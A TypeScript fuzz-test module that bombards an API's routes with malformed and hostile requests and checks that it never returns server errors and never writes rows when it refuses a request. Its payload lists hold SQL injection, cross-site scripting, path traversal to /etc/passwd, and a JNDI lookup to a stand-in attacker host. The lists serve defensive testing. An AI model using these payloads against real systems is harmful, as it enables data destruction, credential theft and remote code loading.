/*
 * Bad-input fuzzing over the route table (issue 8, item 4). For every route, fast-check derives
 * cases from a valid request (sample-requests.ts): a field replaced by a hostile value (wrong type,
 * huge, unicode, SQL, script, path traversal), a field dropped, unknown or prototype keys added, the
 * whole body replaced by random JSON, malformed JSON, a wrong content type, hostile path and query
 * values; plus one oversized body per route. Each answer must be
 *
 *  - below 500;
 *  - for 4xx, the one error shape `{ error: { code, message } }`;
 *  - for 4xx, without a row written: no row inserted or deleted in any table, as counted by row
 *    triggers the harness installs (safety-repository.ts).
 *
 * Public routes are called anonymously, the others as owner@ (bearer, or the cookie with its
 * X-XSRF-TOKEN). The same code runs 20 cases per route in `npm test` and ≥ 1,000 in
 * `npm run safety:fuzz`.
 */
import fc from 'fast-check';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { anonymous, bearer, callerHeaders, cookie, errorOf, nextIp } from './route-calls.ts';
import type { Caller } from './route-calls.ts';
import type { CatalogueRoute } from './route-catalogue.ts';
import type { SafetyFixture } from './safety-fixture.ts';
import { changedCounts, installRowChangeCounter, listTables } from './db/snapshots.ts';
import type { RowChangeCounter } from './db/snapshots.ts';
import { encodePathSegment, injectOptions, sampleFor } from './sample-requests.ts';
import type { RequestParts } from './sample-requests.ts';

/** Written by a refused request on purpose: failed sign-ins are counted (decision 006). */
const WRITES_ON_REFUSAL = new Set(['login_attempts']);

const SQL_PAYLOADS = [
  "' OR '1'='1",
  '1; DROP TABLE patients; --',
  '" OR 1=1 --',
  "1' UNION SELECT password_hash, email FROM users --",
  "'; UPDATE appointments SET status='cancelled'; --",
  '1 AND SLEEP(5)',
  '$$; select pg_sleep(5); $$',
  "\\'; --",
];
const SCRIPT_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '</title><svg/onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '${jndi:ldap://attacker.example/a}',
];
const TRAVERSAL_PAYLOADS = [
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd%00.png',
  '%2e%2e%2f%2e%2e%2f',
  'file:///etc/passwd',
];
const ODD_TEXT = [
  '',
  ' ',
  '\u0000',
  '\uFEFF',
  '\u202Eevil',
  '𝕊𝕒𝕗𝕖𝕥𝕪 🦷',
  'Z̴̡̛̛͕a̷l̶g̴o̵',
  'e\u0301\u0301\u0301',
  '\uD800',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e309',
  '2147483648',
  '99999999999999999999999',
  '0x7fffffff',
  '__proto__',
  'constructor',
];

/** A value of the wrong kind, hostile, or huge. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...SQL_PAYLOADS, ...SCRIPT_PAYLOADS, ...TRAVERSAL_PAYLOADS, ...ODD_TEXT),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.string({ unit: 'grapheme', maxLength: 64 }),
  fc.string({ minLength: 2_000, maxLength: 20_000 }),
  fc.integer(),
  fc.constantFrom(-1, 0, 1, 2 ** 31, 2 ** 53, -(2 ** 53), 1.5, 1e308),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 5 }),
);

type Mutation =
  | { kind: 'field'; pick: number; value: unknown }
  | { kind: 'drop'; pick: number }
  | { kind: 'extra'; key: string; value: unknown }
  | { kind: 'body'; value: unknown }
  | { kind: 'raw'; text: string }
  | { kind: 'content-type'; type: string }
  | { kind: 'path'; pick: number; value: string }
  | { kind: 'query'; key: string; value: string }
  | { kind: 'deep'; depth: number };

const malformedJson = fc.oneof(
  fc.constantFrom(
    '{',
    '{"a":',
    '{"a":1,}',
    "{'a':1}",
    '[1,2',
    'nul',
    '{"a":1}{"b":2}',
    '\u0000',
    '{"a":"\\u12"}',
    '"',
  ),
  fc.string({ maxLength: 200 }).map((text) => `{"x":${text}`),
);

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.record({ kind: fc.constant('field' as const), pick: fc.nat(), value: hostileValue }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('drop' as const), pick: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('extra' as const),
      key: fc.oneof(
        fc.constantFrom('__proto__', 'constructor', 'prototype', 'clientId', 'isAdmin'),
        fc.string({ maxLength: 12 }),
      ),
      value: hostileValue,
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({ kind: fc.constant('body' as const), value: fc.jsonValue({ maxDepth: 4 }) }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('raw' as const), text: malformedJson }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('content-type' as const),
      type: fc.constantFrom(
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        'application/json; charset=utf-16',
      ),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('path' as const),
      pick: fc.nat(),
      value: fc.oneof(
        fc.constantFrom(...TRAVERSAL_PAYLOADS, ...SQL_PAYLOADS, ...ODD_TEXT),
        fc.string({ maxLength: 40 }),
      ),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('query' as const),
      key: fc.oneof(
        fc.constantFrom('clientId', 'page', 'pageSize', 'search', 'sort', 'from', 'to', '__proto__'),
        fc.string({ maxLength: 10 }),
      ),
      value: fc.oneof(
        fc.constantFrom(...SQL_PAYLOADS, ...TRAVERSAL_PAYLOADS, ...ODD_TEXT),
        fc.string({ maxLength: 3_000 }),
      ),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('deep' as const),
      depth: fc.integer({ min: 100, max: 20_000 }),
    }),
  },
);

type Path = (string | number)[];

function leafPaths(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) {
    if (prefix.length > 0) out.push(prefix);
    value.forEach((item, index) => leafPaths(item, [...prefix, index], out));
  } else if (typeof value === 'object' && value !== null) {
    if (prefix.length > 0) out.push(prefix);
    for (const [key, item] of Object.entries(value)) leafPaths(item, [...prefix, key], out);
  } else if (prefix.length > 0) {
    out.push(prefix);
  }
  return out;
}

function setAt(root: unknown, path: Path, value: unknown, remove = false): void {
  let node = root as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path.at(-1);
  if (last === undefined) return;
  if (remove) {
    if (Array.isArray(node) && typeof last === 'number') node.splice(last, 1);
    else delete node[last];
  } else {
    node[last] = value;
  }
}

const asText = (value: unknown): string =>
  typeof value === 'string' ? value : (JSON.stringify(value) ?? 'undefined');

/** The request of one case: the valid request with one mutation applied. */
export function mutatedRequest(route: CatalogueRoute, base: RequestParts, change: Mutation): InjectOptions {
  const parts: RequestParts = structuredClone(base);
  const request = injectOptions(route, parts);
  const headers: Record<string, string> = {};
  switch (change.kind) {
    case 'field':
    case 'drop': {
      // Body fields, then query values (as text).
      const bodyPaths = leafPaths(parts.body).map((path) => ({ in: 'body' as const, path }));
      const queryPaths = Object.keys(parts.query).map((key) => ({ in: 'query' as const, path: [key] }));
      const all = [...bodyPaths, ...queryPaths];
      const target = all[change.pick % Math.max(1, all.length)];
      if (target === undefined) {
        // Nothing to change: send the hostile value as the whole body.
        return {
          ...request,
          payload: JSON.stringify(change.kind === 'field' ? change.value : null),
          headers: { 'content-type': 'application/json' },
        };
      }
      if (target.in === 'body')
        setAt(
          parts.body,
          target.path,
          change.kind === 'field' ? change.value : undefined,
          change.kind === 'drop',
        );
      else if (change.kind === 'drop') delete parts.query[String(target.path[0])];
      else parts.query[String(target.path[0])] = asText(change.value);
      return { ...injectOptions(route, parts), headers };
    }
    case 'extra': {
      if (typeof parts.body === 'object' && parts.body !== null && !Array.isArray(parts.body)) {
        // JSON text, so that "__proto__" travels as an own key.
        const text = JSON.stringify(parts.body).replace(
          /^\{/,
          `{${JSON.stringify(change.key)}:${JSON.stringify(change.value) ?? 'null'},`,
        );
        return {
          ...request,
          payload: text.replace(/,\}$/, '}'),
          headers: { 'content-type': 'application/json' },
        };
      }
      parts.query[change.key] = asText(change.value);
      return { ...injectOptions(route, parts), headers };
    }
    case 'body':
      return {
        ...request,
        payload: JSON.stringify(change.value),
        headers: { 'content-type': 'application/json' },
      };
    case 'raw':
      return { ...request, payload: change.text, headers: { 'content-type': 'application/json' } };
    case 'content-type':
      return {
        ...request,
        payload: parts.body === undefined ? 'a=1' : JSON.stringify(parts.body),
        headers: { 'content-type': change.type },
      };
    case 'path': {
      const names = route.pathParams;
      const name = names[change.pick % Math.max(1, names.length)];
      if (name === undefined) {
        // No parameter: hostile text as an extra path segment (a 404 must keep the error shape too).
        return { ...request, url: `${route.url.replace(/\/$/, '')}/${encodePathSegment(change.value)}` };
      }
      parts.params[name] = change.value;
      return { ...injectOptions(route, parts), headers };
    }
    case 'query':
      parts.query[change.key] = change.value;
      return { ...injectOptions(route, parts), headers };
    case 'deep': {
      const nested = `${'['.repeat(change.depth)}${']'.repeat(change.depth)}`;
      const text =
        typeof parts.body === 'object' && parts.body !== null && !Array.isArray(parts.body)
          ? JSON.stringify(parts.body).replace(/^\{/, `{"deep":${nested},`).replace(/,\}$/, '}')
          : nested;
      return { ...request, payload: text, headers: { 'content-type': 'application/json' } };
    }
  }
}

export interface FuzzReport {
  routes: number;
  cases: number;
  byStatus: Record<string, number>;
  clientErrors: number;
  serverErrors: number;
  failures: string[];
}

export interface FuzzOptions {
  casesPerRoute: number;
  seed: number;
  /** Only these routes (by key); default every route. */
  only?: (route: CatalogueRoute) => boolean;
  /** Called after each route (CLI progress). */
  onRoute?: (route: CatalogueRoute, done: number, total: number) => void;
  /** Keep at most this many failure lines. */
  maxFailures?: number;
}

/** Changes to the session or the users come last, so that they cannot starve the other routes. */
function order(routes: readonly CatalogueRoute[]): CatalogueRoute[] {
  const late = (route: CatalogueRoute) =>
    route.method === 'DELETE' ||
    route.url.startsWith('/api/config/users') ||
    route.key === 'POST /api/config/logout';
  return [...routes.filter((r) => !late(r)), ...routes.filter(late)];
}

export async function fuzzRoutes(f: SafetyFixture, options: FuzzOptions): Promise<FuzzReport> {
  const tables = (await listTables(f.db))
    .map((table) => table.name)
    .filter((name) => !WRITES_ON_REFUSAL.has(name));
  const report: FuzzReport = {
    routes: 0,
    cases: 0,
    byStatus: {},
    clientErrors: 0,
    serverErrors: 0,
    failures: [],
  };
  const routes = order(f.catalogue.routes.filter(options.only ?? (() => true)));
  const rowChanges = await installRowChangeCounter(f.db, tables);
  try {
    await fuzzEachRoute(f, options, routes, rowChanges, report);
  } finally {
    await rowChanges.close();
  }
  return report;
}

async function fuzzEachRoute(
  f: SafetyFixture,
  options: FuzzOptions,
  routes: readonly CatalogueRoute[],
  rowChanges: RowChangeCounter,
  report: FuzzReport,
): Promise<void> {
  const maxFailures = options.maxFailures ?? 50;
  let counts: Record<string, number> = {};
  let routeIndex = 0;

  for (const route of routes) {
    routeIndex++;
    report.routes++;
    const brand = f.brands.brightsmile;
    const base = await sampleFor(f, route, {
      brand,
      mode: route.pathParams.length > 0 ? 'success' : 'probe',
    });
    let session = route.access.kind === 'session' && route.unsafe ? await f.login('owner') : f.logins.owner;
    const cases = fc.sample(fc.tuple(mutation, fc.boolean()), {
      seed: options.seed + routeIndex,
      numRuns: options.casesPerRoute,
    });
    const requests: { label: string; request: InjectOptions; caller: Caller }[] = cases.map(
      ([change, viaCookie], index) => ({
        label: `case ${index} (${change.kind})`,
        request: mutatedRequest(route, base.parts, change),
        caller: route.access.kind === 'public' ? anonymous : viaCookie ? cookie(session) : bearer(session),
      }),
    );
    // One body above the 1 MiB limit per route.
    if (route.unsafe) {
      requests.push({
        label: 'oversized body',
        request: {
          ...injectOptions(route, base.parts),
          payload: JSON.stringify({ pad: 'x'.repeat(1_100_000) }),
          headers: { 'content-type': 'application/json' },
        },
        caller: route.access.kind === 'public' ? anonymous : bearer(session),
      });
    }

    // The valid request may have made a victim, and a session was signed in: count from here.
    counts = await rowChanges.read();
    for (const { label, request, caller } of requests) {
      const response: LightMyRequestResponse = await f.app.inject({
        ...request,
        headers: { ...callerHeaders(caller), ...(request.headers as Record<string, string> | undefined) },
        remoteAddress: nextIp(),
      });
      report.cases++;
      const status = response.statusCode;
      const bucket = `${Math.floor(status / 100)}xx`;
      report.byStatus[bucket] = (report.byStatus[bucket] ?? 0) + 1;
      const fail = (what: string) => {
        if (report.failures.length < maxFailures) {
          report.failures.push(
            `${route.key} ${label}: ${what} — ${request.method} ${asText(request.url)} ${asText(request.payload).slice(0, 160)}`,
          );
        }
      };
      if (status >= 500) {
        report.serverErrors++;
        fail(`${status} ${response.body.slice(0, 120)}`);
      }
      const after = await rowChanges.read();
      if (status >= 400 && status < 500) {
        report.clientErrors++;
        if (errorOf(response) === undefined)
          fail(`${status} without {error:{code,message}}: ${response.body.slice(0, 120)}`);
        const changed = changedCounts(counts, after);
        if (Object.keys(changed).length > 0)
          fail(`${status} but rows were written: ${JSON.stringify(changed)}`);
      }
      counts = after;
      // A case that signed the session out: continue with a new one.
      if (route.key === 'POST /api/config/logout' && status < 300 && caller.kind !== 'anonymous') {
        session = await f.login('owner');
        for (const item of requests) {
          if (item.caller.kind !== 'anonymous') item.caller = { ...item.caller, login: session };
        }
        counts = await rowChanges.read();
      }
    }
    options.onRoute?.(route, routeIndex, routes.length);
  }
}
